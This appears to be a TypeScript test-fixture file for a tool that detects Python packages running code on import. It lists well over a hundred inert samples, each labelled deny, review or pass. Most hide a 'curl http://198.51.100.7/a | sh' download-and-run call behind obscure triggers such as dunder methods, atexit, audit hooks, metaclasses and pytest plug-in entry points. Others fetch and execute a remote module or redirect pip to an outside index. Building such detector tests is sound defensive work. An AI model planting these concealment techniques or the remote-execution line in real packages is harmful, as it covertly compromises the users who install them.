/** What runs when a package is imported, though no call of it stands at the left margin. All inert. */
import type { Shape } from './malicious.js';

const harms = 'os.system("curl http://198.51.100.7/a | sh")';
const P = `import os\ndef p(*a, **k):\n    ${harms}\n    return 1\n`;
const evil = `import os\n${harms}\n`;

function over(name: string, files: Readonly<Record<string, string>>, tier: Shape['tier'] = 'deny'): Shape {
  return { name, tier, files };
}

/** `p` harms; what follows runs it. */
function once(name: string, code: string, tier: Shape['tier'] = 'deny'): Shape {
  return over(name, { 'demo/__init__.py': `${P}${code}\n` }, tier);
}

function fetched(name: string): string {
  return `import importlib.util, urllib.request, pathlib\ndef load(site):\n    path = pathlib.Path("/tmp") / "${name}"\n    path.write_bytes(urllib.request.urlopen("http://demo.invalid/" + site).read())\n    spec = importlib.util.spec_from_file_location("m", path)\n    module = importlib.util.module_from_spec(spec)\n    spec.loader.exec_module(module)\n    return module\n`;
}

function notebook(source: string): string {
  return JSON.stringify({ cells: [{ cell_type: 'code', source: [source], metadata: {} }], nbformat: 4 });
}

export const unasked: readonly Shape[] = [
  over('setup.py imported', { 'demo/__init__.py': 'from . import setup\n', 'demo/setup.py': evil }),
  over('top setup.py imported', { 'demo/__init__.py': 'import setup\n', 'setup.py': evil }),
  once('a program that says that it is one', '__name__="__main__"\nif __name__ == "__main__":\n    p()'),
  once('name rebound globals', 'globals()["__name__"]="__main__"\nif __name__ == "__main__":\n    p()'),
  over('sys.path tests', {
    'demo/__init__.py':
      'import sys, os\nsys.path.insert(0, os.path.join(os.path.dirname(__file__), "tests"))\nimport helper\n',
    'demo/tests/helper.py': evil,
  }),
  over('__path__ tests', {
    'demo/__init__.py':
      'import os\n__path__.append(os.path.join(__path__[0], "tests"))\nfrom . import helper\n',
    'demo/tests/helper.py': evil,
  }),
  over('exec open tests', {
    'demo/__init__.py':
      'import os\nexec(open(os.path.join(os.path.dirname(__file__), "tests", "helper.py")).read())\n',
    'demo/tests/helper.py': evil,
  }),
  over('runpy tests', {
    'demo/__init__.py':
      'import os, runpy\nrunpy.run_path(os.path.join(os.path.dirname(__file__), "tests", "helper.py"))\n',
    'demo/tests/helper.py': evil,
  }),
  over('runpy main', {
    'demo/__init__.py': 'import runpy\nrunpy.run_module("demo.cli", run_name="__main__")\n',
    'demo/cli.py':
      'import os\nif __name__ == "__main__":\n    os.system("curl http://198.51.100.7/a | sh")\n',
  }),
  over('subprocess -m own', {
    'demo/__init__.py': 'import subprocess, sys\nsubprocess.Popen([sys.executable, "-m", "demo.cli"])\n',
    'demo/cli.py':
      'import os\nif __name__ == "__main__":\n    os.system("curl http://198.51.100.7/a | sh")\n',
  }),
  once(
    'else of TYPE_CHECKING',
    'from typing import TYPE_CHECKING\nif TYPE_CHECKING:\n    pass\nelse:\n    p()',
  ),
  once('except ImportError', 'try:\n    import nothere\nexcept ImportError:\n    p()'),
  once('finally', 'try:\n    pass\nfinally:\n    p()'),
  once('generator', 'list(p() for _ in range(1))'),
  once('any gen', 'any(p() for x in (1,))'),
  once('sorted key', 'sorted([1,2], key=p)'),
  once('match', 'match 1:\n    case _:\n        p()'),
  once('match guard', 'match 1:\n    case x if p():\n        pass'),
  once('asyncio', 'import asyncio\nasync def m():\n    p()\nasyncio.run(m())'),
  once(
    'with cm',
    'import contextlib\n@contextlib.contextmanager\ndef c():\n    p()\n    yield\nwith c():\n    pass',
  ),
  once('exitstack', 'import contextlib\nwith contextlib.ExitStack() as s:\n    s.callback(p)'),
  once('except star', 'try:\n    raise ExceptionGroup("", [ValueError()])\nexcept* ValueError:\n    p()'),
  once('atexit', 'import atexit\natexit.register(p)'),
  once('timer', 'import threading\nthreading.Timer(1, p).start()'),
  once('thread kw', 'import threading\nthreading.Thread(target=p, daemon=True).start()'),
  once('finalize', 'import weakref\nclass A: pass\na=A()\nweakref.finalize(a, p)'),
  once('audit', 'import sys\nsys.addaudithook(p)'),
  once('gc', 'import gc\ngc.callbacks.append(p)'),
  once('profile', 'import sys\nsys.setprofile(p)'),
  once('excepthook', 'import sys\nsys.excepthook = p'),
  once('displayhook', 'import sys\nsys.displayhook = p'),
  once('codecs', 'import codecs\ncodecs.register(p)'),
  once('pool', 'from concurrent.futures import ThreadPoolExecutor\nThreadPoolExecutor().submit(p)'),
  once('map pool', 'from multiprocessing.pool import ThreadPool\nThreadPool(1).map(p, [1])'),
  once('signal', 'import signal\nsignal.signal(signal.SIGALRM, p)\nsignal.alarm(1)'),
  once('sched', 'import sched,time\ns=sched.scheduler()\ns.enter(1,1,p)\ns.run()'),
  once('at fork', 'import os\nos.register_at_fork(after_in_child=p)'),
  once('deco class', '@p\nclass A: pass'),
  once('deco fn', '@p\ndef f(): pass'),
  once('set_name', 'class D:\n    def __set_name__(self, o, n):\n        p()\nclass A:\n    d = D()'),
  once('init_subclass', 'class B:\n    def __init_subclass__(cls):\n        p()\nclass A(B): pass'),
  once('class_getitem', 'class B:\n    def __class_getitem__(cls, k):\n        p()\nB[1]'),
  once(
    'prepare',
    'class M(type):\n    def __prepare__(n, b):\n        p()\n        return {}\nclass A(metaclass=M): pass',
  ),
  once(
    'mro_entries',
    'class X:\n    def __mro_entries__(self, b):\n        p()\n        return ()\nclass A(X()): pass',
  ),
  once(
    'meta new',
    'class M(type):\n    def __new__(m, *a):\n        p()\n        return type.__new__(m, *a)\nclass A(metaclass=M): pass',
  ),
  once('meta call', 'class M(type):\n    def __call__(c):\n        p()\nclass A(metaclass=M): pass\nA()'),
  once('format', 'class A:\n    def __format__(s, f):\n        p()\n        return ""\nx = f"{A()}"'),
  once('str', 'class A:\n    def __str__(s):\n        p()\n        return ""\nstr(A())'),
  once('repr in f', 'class A:\n    def __repr__(s):\n        p()\n        return ""\nf"{A()!r}"'),
  once('percent', 'class A:\n    def __str__(s):\n        p()\n        return ""\n"%s" % A()'),
  once('index', 'class A:\n    def __index__(s):\n        p()\n        return 0\n[1][A()]'),
  once('contains', 'class A:\n    def __contains__(s, x):\n        p()\n1 in A()'),
  once('unpack', 'class A:\n    def __iter__(s):\n        p()\n        return iter(())\n[*A()]'),
  once('unpack assign', 'class A:\n    def __iter__(s):\n        p()\n        yield 1\nx, = A()'),
  once('for iter', 'class A:\n    def __iter__(s):\n        p()\n        yield 1\nfor x in A(): pass'),
  once('enter', 'class A:\n    def __enter__(s):\n        p()\n    def __exit__(s,*a): pass\nwith A(): pass'),
  once('del', 'class A:\n    def __del__(s):\n        p()\na=A()\ndel a'),
  once('call', 'class A:\n    def __call__(s):\n        p()\nA()()'),
  once('get', 'class D:\n    def __get__(s, o, t):\n        p()\nclass A:\n    d = D()\nA.d'),
  once('getattr', 'class A:\n    def __getattr__(s, n):\n        p()\nA().x'),
  once('bool', 'class A:\n    def __bool__(s):\n        p()\n        return True\nif A(): pass'),
  once('not', 'class A:\n    def __bool__(s):\n        p()\nnot A()'),
  once('and', 'class A:\n    def __bool__(s):\n        p()\nA() and 1'),
  once('eq', 'class A:\n    def __eq__(s,o):\n        p()\nA() == 1'),
  once(
    'match eq',
    'class A:\n    def __eq__(s,o):\n        p()\nclass K: a=1\nmatch A():\n    case K.a: pass',
  ),
  once('hash set', 'class A:\n    def __hash__(s):\n        p()\n        return 1\n{A()}'),
  once('hash dict', 'class A:\n    def __hash__(s):\n        p()\n        return 1\n{A(): 1}'),
  once('missing', 'class A(dict):\n    def __missing__(s,k):\n        p()\nA()[1]'),
  once('lt', 'class A:\n    def __lt__(s,o):\n        p()\n        return True\nmax(A(),A())'),
  once(
    'fspath',
    'import os\nclass A:\n    def __fspath__(s):\n        p()\n        return ""\nos.path.exists(A())',
  ),
  once(
    'await',
    'import asyncio\nclass A:\n    def __await__(s):\n        p()\n        yield\nasync def m():\n    await A()\nasyncio.run(m())',
  ),
  once('matmul', 'class A:\n    def __matmul__(s,o):\n        p()\nA() @ 1'),
  once('rmatmul', 'class A:\n    def __rmatmul__(s,o):\n        p()\n1 @ A()'),
  once('iadd', 'class A:\n    def __iadd__(s,o):\n        p()\na=A()\na += 1'),
  once('neg', 'class A:\n    def __neg__(s):\n        p()\n-A()'),
  once('setattr', 'class A:\n    def __setattr__(s,n,v):\n        p()\nA().x = 1'),
  once('setitem', 'class A:\n    def __setitem__(s,n,v):\n        p()\nA()[1] = 1'),
  once('delitem', 'class A:\n    def __delitem__(s,n):\n        p()\ndel A()[1]'),
  once('len', 'class A:\n    def __len__(s):\n        p()\n        return 1\nlen(A())'),
  once('int', 'class A:\n    def __int__(s):\n        p()\n        return 1\nint(A())'),
  once('property', 'class A:\n    @property\n    def x(s):\n        p()\nA().x'),
  once(
    'cached',
    'import functools\nclass A:\n    @functools.cached_property\n    def x(s):\n        p()\nA().x',
  ),
  once(
    'dataclass post',
    'import dataclasses\n@dataclasses.dataclass\nclass A:\n    x: int = 1\n    def __post_init__(s):\n        p()\nA()',
  ),
  once(
    'default_factory',
    'import dataclasses\n@dataclasses.dataclass\nclass A:\n    x: int = dataclasses.field(default_factory=p)\nA()',
  ),
  once(
    'enum',
    'import enum\nclass A(enum.Enum):\n    X=1\n    @classmethod\n    def _missing_(c,v):\n        p()\nA(2)',
  ),
  once('enum init', 'import enum\nclass A(enum.Enum):\n    X=1\n    def __init__(s,v):\n        p()'),
  once('namedtuple new', 'class A(tuple):\n    def __new__(c):\n        p()\nA()'),
  once('singledispatch', 'import functools\n@functools.singledispatch\ndef f(x):\n    p()\nf(1)'),
  once('lru', 'import functools\n@functools.lru_cache\ndef f():\n    p()\nf()'),
  once('partial', 'import functools\nfunctools.partial(p)()'),
  once('reduce', 'import functools\nfunctools.reduce(p,[1,2])'),
  once('re.sub', 'import re\nre.sub("a", p, "a")'),
  once('json hook', 'import json\njson.loads("{}", object_hook=p)'),
  once('iter sentinel', 'for x in iter(p, 1): pass'),
  once('defaultdict', 'import collections\ncollections.defaultdict(p)[1]'),
  once('setdefault dict call', 'd={"a":p}\nd["a"]()'),
  once('list call', '[p][0]()'),
  once('ternary', '(p if 1 else None)()'),
  once('or', '(None or p)()'),
  once('nested fn', 'def a():\n    def b():\n        p()\n    return b\na()()'),
  once('lambda', '(lambda: p())()'),
  once('walrus', '(x := p)()'),
  once('star args', 'print(*[p()])'),
  once('kw default', 'def f(x=p()): pass'),
  once('annotation', 'def f(x: p()): pass'),
  once('var annotation', 'x: p() = 1'),
  once('class arg', 'class A(object, metaclass=p): pass'),
  once('class kw', 'class B:\n    def __init_subclass__(cls, **k): pass\nclass A(B, x=p()): pass'),
  once('assert', 'assert p()'),
  once('assert msg', 'try:\n    assert 0, p()\nexcept AssertionError: pass'),
  once('raise', 'try:\n    raise p()\nexcept Exception: pass'),
  once('yield from', 'def g():\n    yield p()\nlist(g())'),
  once('next gen', 'def g():\n    p()\n    yield\nnext(g())'),
  once('for else', 'for x in (): pass\nelse:\n    p()'),
  once('while', 'while p():\n    break'),
  once('subscr slice', '[1][p():2]'),
  once('chained cmp', '1 < p() < 2'),
  once('fstring', 'f"{p()}"'),
  once('nested f', 'f"{1:{p()}}"'),
  once('tstring', 't"{p()}"'),
  once('type()', 'type("A",(),{"__init__":p})()'),
  once(
    'module class',
    'import sys,types\nclass M(types.ModuleType):\n    def __getattr__(s,n):\n        p()\nsys.modules[__name__].__class__=M\n',
  ),
  once('logging filter', 'import logging\nlogging.getLogger().addFilter(p)'),
  once('warnings', 'import warnings\nwarnings.showwarning = p'),
  once(
    'import hook',
    'import sys\nclass F:\n    def find_spec(s,n,pa,t=None):\n        p()\nsys.meta_path.insert(0,F())',
  ),
  once('path hook', 'import sys\nsys.path_hooks.insert(0,p)'),
  over('module getattr', {
    'demo/__init__.py': 'from .lazy import thing\n',
    'demo/lazy.py': P + 'def __getattr__(n):\n    p()\n',
  }),
  over('other file call', { 'demo/__init__.py': 'from .lazy import p\np()\n', 'demo/lazy.py': P }),
  over('other file via star', { 'demo/__init__.py': 'from .lazy import *\np()\n', 'demo/lazy.py': P }),
  over('other file subclass', {
    'demo/__init__.py': 'from .lazy import B\nclass A(B): pass\n',
    'demo/lazy.py': P + 'class B:\n    def __init_subclass__(cls):\n        p()\n',
  }),
  over('other file decorator', {
    'demo/__init__.py': 'from .lazy import deco\n@deco\ndef f(): pass\n',
    'demo/lazy.py': P + 'def deco(f):\n    p()\n    return f\n',
  }),
  over('lazy import in fn called', {
    'demo/__init__.py': 'def go():\n    from .lazy import p\n    p()\ngo()\n',
    'demo/lazy.py': P,
  }),
  over('importlib own', {
    'demo/__init__.py': 'import importlib\nimportlib.import_module(".lazy", __package__).p()\n',
    'demo/lazy.py': P,
  }),
  over('a test that is loaded by its path', {
    'demo/__init__.py':
      'import os, importlib.util\ns = importlib.util.spec_from_file_location("h", os.path.join(os.path.dirname(__file__), "tests", "helper.py"))\nm = importlib.util.module_from_spec(s)\ns.loader.exec_module(m)\n',
    'demo/tests/helper.py': evil,
  }),
  over('a hook of a plug-in that loads by itself', {
    'demo/__init__.py': '',
    'demo/plug.py': `${P}def pytest_configure(config):\n    p()\n`,
    'demo-1.0.dist-info/entry_points.txt': '[pytest11]\nx = demo.plug\n',
  }),
  over('a module that is fetched and loaded by its path', {
    'demo/__init__.py': `${fetched('loaded.py')}load("x")\n`,
  }),
  over('the same, when somebody asks for it', { 'demo/__init__.py': fetched('loaded.py') }, 'review'),
  over(
    'a module of a path that nothing was fetched into',
    {
      'demo/__init__.py':
        'import importlib.util\ndef load(p):\n    s = importlib.util.spec_from_file_location("p", p)\n    m = importlib.util.module_from_spec(s)\n    s.loader.exec_module(m)\n    return m\nload("a.py")\n',
    },
    'pass',
  ),
  over('a function that gives pip another index', {
    'demo/prefs.py':
      'import configparser, os\ndef apply():\n    path = os.path.expanduser("~/.config/pip/pip.conf")\n    conf = configparser.ConfigParser()\n    conf.read(path)\n    conf["global"]["extra-index-url"] = "http://demo.invalid/simple"\n    with open(path, "w") as f:\n        conf.write(f)\n',
  }),
  over('the same, as text', {
    'demo/prefs.py':
      'import pathlib\nimport subprocess\ndef apply():\n    pathlib.Path("~/.pip/pip.conf").expanduser().write_text("[global]\\nindex-url = https://demo.invalid/simple\\n")\n',
  }),
  over(
    'a tool that gives pip the index that it is told',
    {
      'demo/prefs.py':
        'import configparser, os\ndef apply(url):\n    path = os.path.expanduser("~/.config/pip/pip.conf")\n    conf = configparser.ConfigParser()\n    conf["global"]["index-url"] = url\n    with open(path, "w") as f:\n        conf.write(f)\n',
    },
    'pass',
  ),
  over(
    'a notebook that asks IPython for a shell',
    { 'demo/labs/a.ipynb': notebook(`get_ipython().system('curl http://198.51.100.7/a | sh')`) },
    'review',
  ),
  once(
    'a class with such a method, of which nobody makes an object',
    'class A:\n    def __format__(s, f):\n        p()',
    'review',
  ),
  once(
    'a finder that nobody hands to Python',
    'class F:\n    def find_spec(s, n, pa, t=None):\n        p()\nF()',
    'review',
  ),
  once('a program', 'if __name__ == "__main__":\n    p()', 'review'),
  over(
    'a module that is never started',
    { 'demo/__init__.py': '', 'demo/cli.py': `import os\nif __name__ == "__main__":\n    ${harms}\n` },
    'review',
  ),
  over(
    'an object that starts programs when it is called',
    {
      'demo/__init__.py':
        'import subprocess\nclass A:\n    def __call__(s, x):\n        return subprocess.run(["ls", x])\n    def __repr__(s):\n        return "A"\na = A()\n',
    },
    'pass',
  ),
];
